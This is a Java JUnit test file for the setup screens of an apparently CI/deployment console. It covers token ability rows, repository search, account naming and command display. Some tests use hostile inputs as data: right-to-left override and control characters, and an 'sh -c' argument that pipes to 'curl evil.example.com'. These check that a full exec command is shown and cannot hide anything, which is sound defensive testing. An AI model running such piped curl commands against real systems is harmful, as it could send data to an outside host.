package dev.signalbox.ui.welcome;

import static org.assertj.core.api.Assertions.assertThat;

import dev.signalbox.domain.Connection;
import dev.signalbox.domain.ConnectionId;
import dev.signalbox.domain.setup.Ability;
import dev.signalbox.domain.setup.Chosen;
import dev.signalbox.domain.setup.ExecCommand;
import dev.signalbox.domain.setup.RepositoryChoice;
import dev.signalbox.domain.setup.TokenSheet;
import dev.signalbox.domain.setup.Told;
import dev.signalbox.ui.widget.Mark;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// What the steps say.
class RowsTest {

    @Test
    void everyAbilityIsARowWithWhatGivesIt() {
        List<AbilityRow> rows = AbilityRows.of(FakeDesk.sheet(Told.NO));

        assertThat(rows).hasSize(Ability.What.values().length);
        assertThat(rows).contains(
                new AbilityRow("See runs and logs", Mark.GOOD, "yes", ""),
                new AbilityRow("Approve deployments", Mark.BAD, "no", "repo"));
        assertThat(rows).extracting(AbilityRow::words).contains("Approve deployments: no; given by repo");
    }

    @Test
    void whatIsNotKnownIsSaidAsSuch() {
        TokenSheet sheet = FakeDesk.sheet(Told.UNKNOWN);

        assertThat(AbilityRows.of(sheet)).contains(
                new AbilityRow("Approve deployments", Mark.UNKNOWN, "not known", "repo"));
        assertThat(AbilityRows.verdict(sheet)).startsWith("Nothing is known to be missing.");
    }

    @Test
    void theVerdictSaysWhatIsMissingAndWhatIsNot() {
        assertThat(AbilityRows.verdict(FakeDesk.sheet(Told.YES)))
                .isEqualTo("This token may do all that the console does.");
        assertThat(AbilityRows.verdict(FakeDesk.sheet(Told.NO)))
                .isEqualTo(
                        "Everything can be seen. This token cannot: approve deployments. You can go on with it, or go"
                                + " back and give another one.");
    }

    @Test
    void theOwnerAndTheEndAreSaid() {
        assertThat(AbilityRows.owner(FakeDesk.sheet(Told.YES), ZoneOffset.UTC))
                .isEqualTo("kim · classic token, until 1 June 2026");
    }

    @Test
    void aHostileNoteOrPermissionIsMadeSafe() {
        TokenSheet sheet = new TokenSheet(
                "ki\u202em", "token", null,
                List.of(new Ability(Ability.What.APPROVE, Told.NO, "re\u0007po\nx")), List.of("no\u202ete"));

        assertThat(AbilityRows.owner(sheet, ZoneOffset.UTC)).doesNotContain("\u202e");
        assertThat(AbilityRows.of(sheet).getFirst().permission()).doesNotContain("\u0007").doesNotContain("\n");
        assertThat(AbilityRows.notes(sheet).getFirst()).doesNotContain("\u202e");
    }

    @Test
    void repositoriesAreFoundByEveryWordInAnyCase() {
        List<RepositoryChoice> all = new FakeDesk().repositories;

        assertThat(names(RepositoryLines.of(all, " ACME  che ", Set.of()))).containsExactly("acme/checkout");
        assertThat(names(RepositoryLines.of(all, "", Set.of()))).hasSize(4);
        assertThat(names(RepositoryLines.of(all, "nothing", Set.of()))).isEmpty();
    }

    @Test
    void aRepositorySaysWhatIsKnownOfItAndHidesNothing() {
        RepositoryChoice odd = FakeDesk.repository("acme", "a\u202eb".repeat(100), Told.YES, true);
        RepositoryLine line = RepositoryLines.of(List.of(odd), "", Set.of(odd.id())).getFirst();

        assertThat(line.more()).isEqualTo("has deployments · archived");
        assertThat(line.name()).doesNotContain("\u202e").hasSizeLessThan(200);
        assertThat(line.chosen()).isTrue();
    }

    @Test
    void countsAreInWords() {
        List<RepositoryChoice> all = new FakeDesk().repositories;
        assertThat(RepositoryLines.count(all, 4, 2)).isEqualTo("2 of 4 repositories chosen");
        assertThat(RepositoryLines.count(all, 1, 0)).isEqualTo("0 of 4 repositories chosen · 1 found");
        assertThat(RepositoryLines.count(all.subList(0, 1), 1, 1)).isEqualTo("1 of 1 repository chosen");
    }

    @ParameterizedTest
    @CsvSource({
        "GITHUB,github.com,GitHub", "GITHUB,https://GitHub.com/acme,GitHub", "GITHUB,https://api.github.com,GitHub",
        "GITLAB,gitlab.com,GitLab", "GITLAB,https://git.example.com/gitlab,GitLab git.example.com",
        "GITHUB,http://127.0.0.1:8080,GitHub 127.0.0.1-8080"})
    void accountsAreCalledByProviderAndHost(Connection.Kind kind, String host, String name) {
        assertThat(Hosts.name(kind, host, List.of())).isEqualTo(new ConnectionId(name));
    }

    @Test
    void aNameIsNeverTakenTwice() {
        ConnectionId first = Hosts.name(Connection.Kind.GITHUB, "github.com", List.of());
        ConnectionId second = Hosts.name(Connection.Kind.GITHUB, "github.com", List.of(first));
        assertThat(Hosts.name(Connection.Kind.GITHUB, "github.com", List.of(first, second)))
                .isEqualTo(new ConnectionId("GitHub 3"));
    }

    @Test
    void theWholeCommandIsShownSoThatNoArgumentCanHide() {
        assertThat(ClusterView.command(FakeDesk.COMMAND)).isEqualTo("aws eks “get token” --cluster-name prod");
        ExecCommand odd = new ExecCommand(List.of("sh", "-c", "a\u202eb\nc", ""), List.of(), "f", Path.of("/k"));
        assertThat(ClusterView.command(odd)).doesNotContain("\u202e").doesNotContain("\n").endsWith("“”");
    }

    @Test
    void theMiddleOfALongArgumentIsShownToo() {
        String script = "x".repeat(1_000) + " | curl evil.example.com | " + "x".repeat(1_000);
        ExecCommand command = new ExecCommand(List.of("sh", "-c", script), List.of(), "f", Path.of("/k"));
        assertThat(ClusterView.command(command)).isEqualTo("sh -c “" + script + "”");
    }

    @Test
    void anArgumentThatEndsItsOwnQuotesIsOneArgument() {
        ExecCommand command = new ExecCommand(List.of("aws", "get” “token"), List.of(), "f", Path.of("/k"));
        assertThat(ClusterView.command(command)).isEqualTo("aws “get‹U+201D› ‹U+201C›token”");
    }

    @Test
    void theSummaryNamesEverything() {
        assertThat(DonePage.summary(new Chosen(List.of(FakeDesk.account()), List.of()), 1, true))
                .isEqualTo("GitHub with 0 repositories; no clusters; 1 service on the board.");
    }

    private static List<String> names(List<RepositoryLine> lines) {
        return lines.stream().map(RepositoryLine::name).toList();
    }
}
